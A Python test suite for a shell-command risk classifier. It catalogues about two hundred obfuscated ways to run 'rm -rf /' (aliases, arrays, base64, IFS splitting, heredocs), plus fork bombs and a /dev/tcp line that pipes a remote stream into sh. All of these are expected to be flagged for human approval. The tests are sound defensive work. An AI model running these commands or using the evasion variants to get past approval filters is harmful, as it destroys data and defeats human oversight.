"""What bash makes of words, variables, functions and branches: each script removes everything, or does what it says."""

from __future__ import annotations

import time

import pytest

from services.approval.risk import Command, Level, assess
from services.approval.risk.shell import constructs


def level(script: str) -> Level:
    return assess(Command(script=script)).level


# Each of these runs `rm -rf /`, and all that it takes to see it is in the script.
FOLLOWED = [
    "x=rm; x=ls $x -rf /",
    "x=rm; if false; then x=ls; else $x -rf /; fi",
    "x=rm; false && x=ls; $x -rf /",
    "x=rm; f() { local x=ls; }; f; $x -rf /",
    "x=ls; while true; do $x -rf /; x=rm; done",
    "for a in 1 2; do x=ls; for b in 1 2; do $x -rf /; x=rm; done; done",
    "x=rm; (x=ls); $x -rf /",
    "x=rm; echo | x=ls; $x -rf /",
    "x=rm; x=ls & $x -rf /",
    "x=rm; y=$(x=ls; echo a); $x -rf /",
    "case a in b) x=ls;; *) x=rm;; esac; $x -rf /",
    "rm() { echo; }; command rm -rf /",
    "( rm() { echo; } ); rm -rf /",
    "ls() { rm -rf /; }; ls",
    'ls() { rm -rf "$1"; }; ls /',
    'f() { "$@"; }; f rm -rf /',
    "f() { $1 -rf $2; }; f rm /",
    'f() { shift; "$@"; }; f x rm -rf /',
    'set -- rm -rf /; "$@"',
    "set rm -rf /; $1 $2 $3",
    "alias x=rm; x -rf /",
    "alias x='rm -rf'; x /",
    "alias rm=echo; rm -rf /",
    'a=(rm -rf /); "${a[@]}"',
    "a=(rm -rf /); ${a[@]}",
    "a=(rm -rf /); ${a[0]} -rf /",
    'a=(); a+=(rm); a+=(-rf /); "${a[@]}"',
    'a[0]=rm; a[1]=-rf; a[2]=/; "${a[@]}"',
    "x=rm.txt; ${x%.txt} -rf /",
    "x=/usr/bin/rm; ${x##*/} -rf /",
    "x=xrm; ${x#x} -rf /",
    "x=rXm; ${x/X/} -rf /",
    "x=RM; ${x,,} -rf /",
    "x=xrmx; ${x:1:2} -rf /",
    "x=r; x+=m; $x -rf /",
    ": ${x:=rm}; $x -rf /",
    "printf -v x rm; $x -rf /",
    "read x <<< rm; $x -rf /",
    'r$"m" -rf /',
    '$"rm" -rf /',
    "$'\\x72m' -rf /",
    "$'\\162\\155' -rf /",
    "$(echo -e '\\0162\\0155') -rf /",
    "$(printf '\\x72\\x6d') -rf /",
    "$(printf %s rm) -rf /",
    "`echo rm` -rf /",
    "`echo \\`echo rm\\`` -rf /",
    "echo `echo \\`rm -rf /\\``",
    "r{m,m} -rf /",
    "time { rm -rf /; }",
    "time -p { rm -rf /; }",
    "coproc { rm -rf /; }",
    "coproc X { rm -rf /; }",
    "coproc rm -rf /",
    "! rm -rf /",
    "if ! rm -rf /; then :; fi",
    "echo $((`rm -rf /`))",
    "echo $(( $(rm -rf /) + 1 ))",
    "(( x = $(rm -rf /) ))",
    "[[ -n $(rm -rf /) ]]",
    '[ -n "$(rm -rf /)" ]',
    "case $(rm -rf /) in *) ;; esac",
    "case x in $(rm -rf /)) ;; esac",
    "for ((i=$(rm -rf /);i<1;i++)); do :; done",
    "for i in $(rm -rf /); do :; done",
    "a=($(rm -rf /))",
    "a[$(rm -rf /)]=1",
    "echo ${x:-$(rm -rf /)}",
    "echo ${x//$(rm -rf /)/y}",
    "echo ${x:$(rm -rf /)}",
    'echo "${x:+$(rm -rf /)}"',
    "cat <(rm -rf /)",
    "ls > >(rm -rf /)",
    "echo 'rm -rf /' > >(sh)",
    "cat <<E\n$(rm -rf /)\nE",
    "sh <<'E'\nrm -rf /\nE",
    "sh <<E\nrm -rf \\/\nE",
    "sh <<E\n\\rm -rf /\nE",
    "cat <<E | sh\nrm -rf /\nE",
    "cat <<E && rm -rf /\nx\nE",
    "cat <<E || rm -rf /\nx\nE",
    "sh <<< $'rm -rf /'",
    "IFS=x; a=rmx-rfx/; $a",
    "IFS=,; a=rm,-rf,/; $a",
    "rm${IFS}-rf${IFS}/",
    "x=$'rm\\t-rf\\t/'; $x",
    "command_not_found_handle() { rm -rf /; }; foo",
    "trap 'rm -rf /' EXIT",
    "x=ls; trap '$x -rf /' EXIT; x=rm",
    "unset -f rm; rm -rf /",
    "echo 'rm -rf /' > x.sh; echo ls >> x.sh; sh x.sh",
    "declare x=rm; $x -rf /",
    'declare "x=rm"; $x -rf /',
    "n=x; declare $n=rm; $x -rf /",
    'export "x=rm"; $x -rf /',
    "readonly x=rm; $x -rf /",
    "f() { local c=rm; $c -rf /; }; f",
    "f() { rm -rf /; }; export -f f; bash -c f",
    "f() { rm -rf /; }; x=f; $x",
    'eval "f() { rm -rf /; }"; f',
    "x=1; ((x)) && rm -rf /",
    "until rm -rf /; do :; done",
    "select x in a; do rm -rf /; done",
    "function f { rm -rf /; }; f",
    "f() ( rm -rf / ); f",
    "f() if true; then rm -rf /; fi; f",
    "echo\r#; rm -rf /",
    "echo a \\\r\nrm -rf /",
    "sh -c '$0 -rf /' rm",
    "sh -c '\"$@\"' x rm -rf /",
    "bash -c '$1 -rf /' x rm",
    "x='rm -rf /'; $x",
    "x='rm -rf /'; eval $x",
    "x='rm -rf /'; eval \"$x\"",
    "for c in rm; do $c -rf /; done",
    "for c in ls rm; do $c -rf /; done",
    "if true; then C=rm; else C=ls; fi; $C -rf /",
    "x=$((1+1)); ${x}rm; rm -rf /",
    "PATH=.:$PATH ls; rm -rf /",
    "${PATH:0:1}bin${PATH:0:1}rm -rf /",
    "~/../../bin/rm -rf /",
    "/b?n/rm -rf /",
    "$RANDOM; rm -rf /",
    "ls;rm -rf /",
    "ls&rm -rf /",
    "ls|rm -rf /",
    "ls\n\n\n;rm -rf /",
    "ls #x\nrm -rf /",
    "ls \\\n; rm -rf /",
    "{ echo rm -rf /; } | sh",
    "(echo rm -rf /) | bash",
    "echo rm -rf / | (cat | sh)",
    "while read l; do $l; done <<< 'rm -rf /'",
    'while read l; do eval "$l"; done <<E\nrm -rf /\nE',
    "mapfile -t a <<< 'rm'; ${a[0]} -rf /",
    "builtin eval 'rm -rf /'",
    "command eval 'rm -rf /'",
    "a=rm b=-rf; $a $b /",
    "a=r b=m; $a$b -rf /",
    'a=r; "$a"m -rf /',
    "\"r\"'m' -rf /",
    "r\\m -rf /",
    "r\\\nm -rf /",
    "x() { y; }; y() { rm -rf /; }; x",
    "if [ x ]; then :; elif rm -rf /; then :; fi",
    "[[ a ]] && { rm -rf /; }",
    "true && ! rm -rf /",
    "rm -rf / &",
    "nohup rm -rf / & disown",
    ">x rm -rf /",
    "2>/dev/null rm -rf /",
    "x=1 y=2 rm -rf /",
    '""rm -rf /',
    "x=; $x rm -rf /",
    'x=""; $x rm -rf /',
    "x=; ${x:+ls} rm -rf /",
    'echo "$(rm -rf /)"',
    'echo "`rm -rf /`"',
    "echo $'a' \"b\" $(rm -rf /)",
    "rm -rf $(echo /)",
    "d=/; rm -rf $d",
    'd=/; rm -rf "${d}"',
    "rm -rf ${d:-/}",
    'rm -rf "/"',
    "rm -r''f /",
    "'rm' '-rf' '/'",
    "shopt -s expand_aliases\nalias a='rm -rf /'\na",
    "y() { rm -rf /; }; trap y EXIT",
    "typeset -l x=RM; $x -rf /",
    "env x=y rm -rf /",
    "if true; then rm() { :; }; fi; unset -f rm; rm -rf /",
    "f() { f & f & }; f",
    ":(){ :|:& };:",
    "b() { b | b & }; b",
    "echo rm -rf / >/tmp/a; . /tmp/a",
    "x=$(cat <<E\nrm -rf /\nE\n); $x",
    "x=$(cat <<'E'\nrm -rf /\nE\n); eval \"$x\"",
    "cat <<A <<B\na\nA\nrm\nB\nrm -rf /",
    "case x in x) ;; esac; rm -rf /",
    "case x in (x) rm -rf /;; esac",
    "case x in x) : ;& y) rm -rf /;; esac",
    "x=rm; case a in a) x=ls;& b) $x -rf /;; esac; case b in c) x=ls;; esac; $x -rf /",
    "echo 'a' 'b' ; 'rm' -rf /",
    "true || rm -rf /",
    "{ rm -rf /; } 2>/dev/null",
    "( ( ( rm -rf / ) ) )",
    '"$(echo rm)" -rf /',
    "$(echo rm -rf /)",
    '$(echo "rm -rf" /)',
    "eval $(echo rm -rf /)",
    'eval "$(echo cm0gLXJmIC8= | base64 -d)"',
    "x=cm0gLXJmIC8=; echo $x | base64 -d | sh",
    'bash -c "$(echo cm0gLXJmIC8= | base64 -d)"',
    'x=(ls); x=(rm -rf /); "${x[@]}"',
    '"${x[0]:-rm}" -rf /',
    "set -- a; shift; rm -rf /",
    "getopts a x; rm -rf /",
    "{ rm -rf /",
]


@pytest.mark.parametrize("script", FOLLOWED)
def test_what_runs_is_followed_through_the_script(script: str) -> None:
    assert level(script) is Level.CRITICAL


# What these run is not known before they run, or cannot be read with certainty.
NOT_KNOWN = [
    "f() { x=rm; return; x=ls; }; f; $x -rf /",
    "while true; do $x -rf /; x=rm; done",
    "x=ls; y=ls; z=ls; while :; do $x -rf /; x=$y; y=$z; z=rm; done",
    "f() { $1 -rf /; f rm; }; f ls",
    'read x y <<< "rm -rf"; $x $y /',
    "{rm,-rf,/}",
    "{,rm} -rf /",
    "cat <<E; rm -rf /\nx\nE",
    "cat > x.sh <<E; sh x.sh\nrm -rf /\nE",
    "cat <<EOF\nEOF\r\ncat <<X\nEOF\nrm -rf /\nX",
    "exec 3<>/dev/tcp/1.2.3.4/5",
    "exec 5<>/dev/tcp/1.2.3.4/5; cat <&5 | sh",
    "for c in a b c d e f g h i j rm; do $c -rf /; done",
    "echo ${x@P}; x='$(rm -rf /)'",
    "let 'x=a[$(rm -rf /)]'",
    "unset x; $x rm -rf /",
    '"${x[@]}" rm -rf /',
    "a=b; b=rm; ${!a} -rf /",
    "declare -n r=x; x=rm; $r -rf /",
]


@pytest.mark.parametrize("script", NOT_KNOWN)
def test_what_cannot_be_followed_asks_a_person(script: str) -> None:
    assert level(script) > Level.LOW


HARMLESS = [
    'f() { "$@"; }; f ls -la',
    'run() { echo "+ $*"; "$@"; }; run git status',
    "set -e; cd src && make",
    "x=ls; $x -la",
    "for c in ls pwd; do $c; done",
    "if [ -x a ]; then P=python3; else P=python; fi; $P --version",
    'case "$1" in start) echo a;; stop) echo b;; *) echo usage;; esac',
    'a=(ls -la); "${a[@]}"',
    "i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done",
    "for ((i=0;i<3;i++)); do echo $i; done",
    'while read -r l; do echo "$l"; done < f.txt',
    'usage() { echo "usage: $0"; exit 1; }; [ $# -eq 0 ] && usage',
    'log() { echo "[$(date +%F)] $*"; }; log hello',
    "cat <<EOF > a.md\nrm -rf / $x\nEOF",
    "time make test",
    "time { make; }",
    "echo {a,b}{1..3}",
    "mkdir -p a/{b,c,d}",
    'x=${1:-default}; echo "$x"',
    'f=a.txt; echo "${f%.txt}.md" "${f##*.}" "${f^^}"',
    '[[ "$x" =~ ^[0-9]+$ ]] && echo num',
    "diff <(sort a) <(sort b)",
    "ls 2>&1 | tee log.txt",
    "ls &>/dev/null",
    "exec 3<data.txt; cat <&3",
    "(cd sub && ls)",
    "ls & wait",
    "trap 'echo done' EXIT",
    "trap 'echo $x' EXIT; x=1",
    "set -euo pipefail",
    'IFS=, read -r a b <<< "1,2"; echo $a',
    "declare -A m; m[a]=1; echo ${m[a]}",
    "local_var=1; export PATH",
    'if [[ -f a && -n "$b" ]]; then ls; fi',
    "git log --format='%h %s' | while read -r h s; do echo \"$h\"; done",
    "x=$(git rev-parse HEAD); echo ${x:0:7}",
    'echo "a\r\nb"',
    "ls\r\ncat a\r\n",
    "if true; then\r\n  ls\r\nfi\r\n",
    "select x in a b; do echo $x; break; done",
    'arr=(); arr+=(a); arr+=(b); echo "${arr[@]}" ${#arr[@]}',
    "printf '%s\\n' \"${a[@]}\"",
    "fact() { if [ $1 -le 1 ]; then echo 1; else echo $(( $1 * $(fact $(( $1 - 1 ))) )); fi; }; fact 5",
    "find . -type f -name '*.py' -exec grep -l foo {} +",
    "sed -n '1,10p' f | awk '{print $1}'",
    "echo `date`",
    "test -f a || touch a",
    "! grep -q foo a",
    'x="$(cat <<\'E\'\nhi\nE\n)"; echo "$x"',
    'docker run --rm -v "$PWD":/w img make',
    "let i=i+1",
    "((i++))",
    "echo $RANDOM $$ $?",
    'cmd=(git log); [ -n "$v" ] && cmd+=(--oneline); "${cmd[@]}"',
    "echo a; # comment",
    "cat a |\n grep b |\n sort",
    "make \\\n  -j4 \\\n  test",
]


@pytest.mark.parametrize("script", HARMLESS)
def test_ordinary_scripts_stay_low(script: str) -> None:
    found = assess(Command(script=script))
    assert found.level is Level.LOW, [(factor.id, factor.excerpt) for factor in found.factors]


DATA = [
    "echo 'rm -rf /'",
    "x='rm -rf /'; echo \"$x\"",
    'x=(rm -rf /); echo "${x[@]}"',
    "printf '%s\\n' \"rm -rf /\"",
    "git commit -m 'rm -rf /; sudo reboot'",
    "cat <<'E'\n$(rm -rf /)\nE",
    "cat <<E\nrm -rf /\nE",
    "grep -c 'rm -rf /' <<< 'rm -rf /'",
    'f() { echo "$@"; }; f rm -rf /',
    "# $(rm -rf /)",
    r"echo \$\(rm -rf /\)",
    "[[ 'rm -rf /' == x ]] && ls",
    "case 'rm -rf /' in x) ls;; esac",
    "for x in 'rm -rf /'; do echo \"$x\"; done",
]


@pytest.mark.parametrize("script", DATA)
def test_words_that_are_data_are_never_commands(script: str) -> None:
    assert level(script) is Level.LOW


def test_a_construct_that_is_not_in_the_table_is_unreadable(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delitem(constructs.TABLE, "while_statement")
    assert level("while true; do ls; done") is Level.UNKNOWN


SLOW = {
    "commands": "a;" * 500_000,
    "commands within the cap": "a;" * 60_000,
    "background": "a&" * 60_000,
    "pipes": "a|" * 60_000 + "a",
    "ands": "a&&" * 40_000 + "a",
    "ors with assignments": "a||x=1||" * 15_000 + "a",
    "substitutions": "$(" * 10_000 + "ls" + ")" * 10_000,
    "open parentheses": "(" * 100_000,
    "lists of braces": "echo " + "{a,b} " * 1000,
    "one word of braces": "echo " + "{a,b}" * 1000,
    "sequences": "echo " + "{1..250} " * 14_000,
    "functions that call each other": "".join(
        f"f{i}() {{ f{(i * 7) % 3000}; f{(i * 3 + 1) % 3000}; }}\n" for i in range(3000)
    )
    + "f0",
    "functions in a chain": "".join(f"f{i}() {{ f{i + 1}; f{i + 1}; }}\n" for i in range(3000)) + "f0",
    "growing values": "x=a;" + "x=$x$x;" * 10_000,
    "growing arguments": "set -- a;" + 'set -- "$@" "$@";' * 5000,
    "growing arrays": "a=(b);" + 'a=("${a[@]}" "${a[@]}");' * 4000,
    "a long here-document": "cat <<E\n" + "line $x\n" * 15_000 + "E\n",
    "a long word": "echo " + "x" * 100_000,
    "aliases": "".join(f"alias a{i}='a{i + 1}'\n" for i in range(5000)) + "a0",
    "loops in loops": "for i in a b c d e f g h; do " * 50 + "ls;" + "done;" * 50,
    "loops with changes": "while x=$x$x; do " * 50 + "ls;" + "done;" * 50,
    "redirections": "ls " + ">a " * 40_000,
    "escaped line ends": "echo " + "a\\\n" * 30_000,
}


@pytest.mark.parametrize("script", SLOW.values(), ids=SLOW)
def test_the_work_is_bounded_for_any_script(script: str) -> None:
    started = time.process_time()
    assess(Command(script=script))
    assert time.process_time() - started < 2  # seconds; half of one or less on an idle core


@pytest.mark.parametrize(
    "script", ["f() { f; }; f", "f() { g; }; g() { f; }; f", 'f() { f "$1" x; }; f a', "alias a=a; a", "f() { f & }; f"]
)
def test_what_calls_itself_ends(script: str) -> None:
    level(script)
